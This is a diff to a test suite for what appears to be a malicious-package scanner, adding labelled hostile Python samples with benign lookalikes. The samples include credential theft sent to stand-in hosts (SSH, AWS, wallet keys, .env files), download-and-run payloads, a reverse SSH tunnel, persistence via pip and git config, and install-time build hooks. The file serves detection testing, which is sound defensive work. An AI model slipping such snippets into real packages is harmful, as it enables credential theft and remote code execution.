@@ -498,6 +498,165 @@ TECHNIQUES = [
         f"    requests.post({URL!r}, data=key)\n",
         "exfiltration.credentials",
     ),
+    (
+        "hook-returned-by-a-factory",
+        "import threading, urllib.request\n"
+        "from eth_account import Account\n"
+        "def _ping(key):\n"
+        f"    urllib.request.urlopen(urllib.request.Request({URL!r}, headers={{'X': key}}))\n"
+        "def _wrap(fn):\n"
+        "    def inner(*a, **kw):\n"
+        "        acct = fn(*a, **kw)\n"
+        "        _ping(acct.key)\n"
+        "        return acct\n"
+        "    return inner\n"
+        "Account.from_key = staticmethod(_wrap(Account.from_key))\n",
+        "exfiltration.function-hook",
+    ),
+    (
+        "wallet-keyfile-sent-by-a-method",
+        "import json, os, urllib.request\n"
+        "def _keys():\n"
+        "    return json.load(open(os.path.expanduser('~/.config/solana/id.json')))\n"
+        "class Client:\n"
+        "    def __init__(self):\n"
+        "        self.health = self._rpc('getHealth', _keys())\n"
+        "    def _rpc(self, method, params=None):\n"
+        "        body = json.dumps({'method': method, 'params': params}).encode()\n"
+        f"        return urllib.request.urlopen(urllib.request.Request({URL!r}, data=body))\n",
+        "exfiltration.credentials",
+    ),
+    (
+        "credential-folders-tarred-into-a-buffer",
+        "import io, os, tarfile, urllib.request\n"
+        "def _archive():\n"
+        "    buf = io.BytesIO()\n"
+        "    with tarfile.open(fileobj=buf, mode='w:gz') as tar:\n"
+        "        for d in ('~/.ssh', '~/.aws/credentials'):\n"
+        "            tar.add(os.path.expanduser(d))\n"
+        "    return buf.getvalue()\n"
+        f"urllib.request.urlopen(urllib.request.Request({URL!r}, data=_archive(), method='PUT'))\n",
+        "exfiltration.credentials",
+    ),
+    (
+        "builtins-by-reversed-name-run-a-download",
+        "import builtins\nfrom urllib.request import urlopen\n"
+        "def resolve(name):\n    return vars(builtins)[name[::-1]]\n"
+        f"resolve('cexe')(urlopen({URL!r}).read())\n",
+        "download-execute.remote-code",
+    ),
+    (
+        "shared-object-unpacked-and-loaded-on-import",
+        "import ctypes, os, zlib\n"
+        "def load():\n"
+        "    src = os.path.join(os.path.dirname(__file__), '_native.z')\n"
+        "    path = '/dev/shm/.x'\n"
+        "    with open(src, 'rb') as f, open(path, 'wb') as out:\n"
+        "        out.write(zlib.decompress(f.read()))\n"
+        "    return ctypes.CDLL(path)\n"
+        "_lib = load()\n",
+        "binary-dropper.run-shipped",
+    ),
+    (
+        "posix-spawn-of-inline-decoded-code",
+        "import os, sys\n"
+        "os.posix_spawn(sys.executable, [sys.executable, '-c', 'import os,zlib,base64;"
+        'exec(zlib.decompress(base64.b64decode(os.environ["B"])))\'], {}, setsid=True)\n',
+        "obfuscation.exec-decoded",
+    ),
+    (
+        "detached-tmux-reverse-ssh-tunnel",
+        "import subprocess\n"
+        "subprocess.run(['tmux', 'new-session', '-d', '-s', 'dbus', "
+        "'ssh -N -R 0:127.0.0.1:22 tun@203.0.113.9'])\n",
+        "reverse-shell.command",
+    ),
+    (
+        "script-file-holding-a-download-command-then-run",
+        "import os, subprocess, tempfile\n"
+        "def fonts():\n"
+        "    vbs = os.path.join(tempfile.gettempdir(), 'f.vbs')\n"
+        "    cmd = 'powershell -nop -c iex(iwr -useb https://c2.example.invalid/f.ps1)'\n"
+        "    with open(vbs, 'w') as f:\n"
+        '        f.write(f\'CreateObject("WScript.Shell").Run "{cmd}", 0\')\n'
+        "    subprocess.Popen(['wscript.exe', vbs])\n"
+        "fonts()\n",
+        "download-execute.drop-and-run",
+    ),
+    (
+        "pip-configuration-rewritten-on-import",
+        "import os, subprocess\n"
+        "subprocess.run(['pip', 'config', '--user', 'set', 'global.extra-index-url', "
+        "'https://pypi.example.invalid/simple'])\n",
+        "persistence.package-index",
+    ),
+    (
+        "global-git-hooks-path-on-import",
+        "import subprocess\n"
+        "subprocess.run(['git', 'config', '--global', 'core.hooksPath', '/tmp/.h'])\n",
+        "persistence.autostart",
+    ),
+    (
+        "c2-address-read-from-a-paste-site",
+        "import re, socket, urllib.request\n"
+        "page = urllib.request.urlopen('https://pastebin.com/raw/PIPWARDENTEST').read().decode()\n"
+        "host, port = re.search(r'<<(.+):(\\d+)>>', page).groups()\n"
+        "socket.create_connection((host, int(port)))\n",
+        "suspicious-endpoint.hidden",
+    ),
+    (
+        "audit-hook-collects-dotenv-sent-at-exit",
+        "import atexit, os, sys, urllib.request\n_seen = {}\n"
+        "def _hook(event, args):\n"
+        "    if event == 'open' and os.path.basename(str(args[0])) == '.env':\n"
+        "        _seen[args[0]] = open(args[0]).read()\n"
+        "def _flush():\n"
+        f"    urllib.request.urlopen({URL!r}, data=repr(_seen).encode())\n"
+        "sys.addaudithook(_hook)\natexit.register(_flush)\n",
+        "exfiltration.credentials",
+    ),
+    (
+        "daemon-on-import",
+        "import os\n"
+        "def _detach():\n"
+        "    if os.fork():\n        return\n"
+        "    os.setsid()\n"
+        "_detach()\n",
+        "hidden-process.detached",
+    ),
+    (
+        "metaclass-downloads-and-runs-when-a-class-is-defined",
+        "import subprocess, urllib.request\n"
+        "class Meta(type):\n"
+        "    def __new__(mcs, name, bases, ns):\n"
+        f"        urllib.request.urlretrieve({URL!r}, '/tmp/.m')\n"
+        "        subprocess.Popen(['/tmp/.m'])\n"
+        "        return super().__new__(mcs, name, bases, ns)\n"
+        "class Model(metaclass=Meta):\n    pass\n",
+        "download-execute.drop-and-run",
+    ),
+    (
+        "network-code-written-into-other-modules",
+        "import os\n"
+        "LINE = \"__import__('urllib.request').request.urlopen('https://c2.example.invalid/i')\\n\"\n"
+        "def infect(pkgs):\n"
+        "    for pkg in pkgs:\n"
+        "        with open(os.path.join(pkg, '__init__.py'), 'r+') as f:\n"
+        "            f.write(LINE)\n"
+        "infect(['a'])\n",
+        "startup-hook.writes-startup",
+    ),
+    (
+        "downloaded-archive-extracted-and-run",
+        "import io, subprocess, sys, urllib.request, zipfile\n"
+        "def _assets():\n"
+        f"    data = urllib.request.urlopen({URL!r}).read()\n"
+        "    zipfile.ZipFile(io.BytesIO(data)).extractall('/tmp/.a')\n"
+        "    subprocess.Popen([sys.executable, '/tmp/.a/main.py'])\n"
+        "def _load_jupyter_server_extension(app):\n"
+        "    _assets()\n",
+        "download-execute.drop-and-run",
+    ),
 ]
 
 
@@ -627,6 +786,47 @@ LOOKALIKES = [
         "    def wrapped(*a):\n        _load()\n        return f(*a)\n"
         "    return wrapped\n"
         "@_requires\ndef local_ips():\n    return []\n",
+    ),
+    (
+        "instance-metadata-credential-chain",
+        "import json, urllib.request\n"
+        "IMDS = 'http://169.254.169.254'\n"
+        "def from_imds():\n"
+        "    base = f'{IMDS}/latest/meta-data/iam/security-credentials/'\n"
+        "    role = urllib.request.urlopen(base).read().decode()\n"
+        "    return json.load(urllib.request.urlopen(urllib.request.Request(base + role)))\n",
+    ),
+    (
+        "netrc-credentials-for-the-requested-host",
+        "import netrc, os, urllib.parse, urllib.request\n"
+        "def get(url):\n"
+        "    host = urllib.parse.urlsplit(url).hostname\n"
+        "    entry = netrc.netrc(os.path.expanduser('~/.netrc')).authenticators(host)\n"
+        "    req = urllib.request.Request(url)\n"
+        "    if entry:\n"
+        "        req.add_header('Authorization', entry[2])\n"
+        "    return urllib.request.urlopen(req).read()\n",
+    ),
+    (
+        "terminal-multiplexer-library",
+        "import subprocess\n"
+        "def new_session(name, cmd):\n"
+        "    subprocess.run(['tmux', 'new-session', '-d', '-s', name, cmd])\n",
+    ),
+    (
+        "pip-configuration-read",
+        "import configparser, os\n"
+        "def index_url():\n"
+        "    cp = configparser.ConfigParser()\n"
+        "    cp.read(os.path.expanduser('~/.config/pip/pip.conf'))\n"
+        "    return cp.get('global', 'index-url', fallback=None)\n",
+    ),
+    (
+        "service-discovery-in-a-function",
+        "import json, urllib.request\n"
+        "def token(issuer):\n"
+        "    conf = json.load(urllib.request.urlopen(issuer + '/.well-known/openid-configuration'))\n"
+        "    return urllib.request.urlopen(conf['token_endpoint'], data=b'grant_type=x').read()\n",
     ),
     (
         "template-engine-exec-of-generated-code",
@@ -916,3 +1116,86 @@ def test_function_of_the_package_init_called_from_a_submodule_on_import(tmp_path
         and f.severity == Severity.CRITICAL
         for f in result.findings
     )
+
+
+def test_secrets_passed_to_a_sibling_module_on_import(tmp_path: Path) -> None:
+    plugin = (
+        "import os\nfrom ._report import flush\n"
+        "def pytest_configure(config):\n"
+        "    flush({k: v for k, v in os.environ.items() if 'TOKEN' in k})\n"
+    )
+    report = (
+        "import json, urllib.request\n"
+        "def flush(stats):\n"
+        "    urllib.request.urlopen('https://c2.example.invalid/s', data=json.dumps(stats).encode())\n"
+    )
+    files = {"ps/__init__.py": "", "ps/plugin.py": plugin, "ps/_report.py": report}
+    result = scan_target(_write(tmp_path, build_wheel("ps", "1.0", files)))
+    assert result.verdict == "malicious"
+    assert any(
+        f.rule == "exfiltration.credentials" and f.file == "ps/_report.py" for f in result.findings
+    )
+    # The same helper given nothing secret: a reporting library.
+    files["ps/plugin.py"] = plugin.replace(
+        "{k: v for k, v in os.environ.items() if 'TOKEN' in k}", "{'n': 1}"
+    )
+    assert scan_target(_write(tmp_path, build_wheel("ps", "1.1", files))).verdict == "clean"
+
+
+def test_setuptools_hook_entry_points_run_in_every_build(tmp_path: Path) -> None:
+    hook = (
+        "import os\n"
+        "LINE = \"__import__('urllib.request').request.urlopen('https://c2.example.invalid/i')\\n\"\n"
+        "def finalize(dist):\n"
+        "    for pkg in dist.packages or []:\n"
+        "        with open(os.path.join(pkg, '__init__.py'), 'a') as f:\n"
+        "            f.write(LINE)\n"
+    )
+    eps = "[setuptools.finalize_distribution_options]\ngl = gl.hooks:finalize\n"
+    files = {"gl/__init__.py": "", "gl/hooks.py": hook, "gl-1.0.dist-info/entry_points.txt": eps}
+    result = scan_target(_write(tmp_path, build_wheel("gl", "1.0", files)))
+    assert result.verdict == "malicious"
+    # Not registered as a hook: a code generator the user calls.
+    del files["gl-1.0.dist-info/entry_points.txt"]
+    assert scan_target(_write(tmp_path, build_wheel("gl", "1.1", files))).verdict == "clean"
+
+
+def test_hatch_build_hook_runs_at_install_time(tmp_path: Path) -> None:
+    hook = (
+        "import subprocess, urllib.request\n"
+        "from hatchling.builders.hooks.plugin.interface import BuildHookInterface\n"
+        "class Hook(BuildHookInterface):\n"
+        "    def initialize(self, version, build_data):\n"
+        "        urllib.request.urlretrieve('https://c2.example.invalid/h', '/tmp/.h')\n"
+        "        subprocess.Popen(['/tmp/.h'])\n"
+    )
+    pyproject = (
+        '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n'
+        "[tool.hatch.build.hooks.custom]\n"
+    )
+    files = {"hatch_build.py": hook, "pyproject.toml": pyproject, "x/__init__.py": ""}
+    result = scan_target(_write(tmp_path, build_sdist("x", "1.0", files)))
+    assert result.verdict == "malicious"
+    assert any(
+        f.rule == "download-execute.drop-and-run" and f.severity == Severity.CRITICAL
+        for f in result.findings
+    )
+    files["pyproject.toml"] = pyproject.replace("[tool.hatch.build.hooks.custom]\n", "")
+    result = scan_target(_write(tmp_path, build_sdist("x", "1.1", files)))
+    assert not any(f.severity == Severity.CRITICAL for f in result.findings)
+
+
+def test_compressed_pickle_is_read_without_unpickling() -> None:
+    import gzip
+
+    payload = b"cnt\nsystem\n(S'echo pipwarden-test'\ntR."
+    for name, data in (
+        ("pkg/data/sample.pkl.gz", gzip.compress(payload)),
+        ("pkg/data/sample.gz", gzip.compress(b"\x80\x02" + payload)),
+    ):
+        found_rules = {f.rule for f in analyse_member(FileContext(name, "wheel", True), data)}
+        assert "unsafe-deserialization.malicious-file" in found_rules, name
+    benign = gzip.compress(pickle.dumps({"open": [1.0, 2.0]}, protocol=2))
+    assert analyse_member(FileContext("pkg/data/ok.pkl.gz", "wheel", True), benign) == []
+    # A truncated or corrupt stream is data, not an error.
+    assert analyse_member(FileContext("pkg/x.pkl.gz", "wheel", True), b"\x1f\x8b\x08garbage") == []
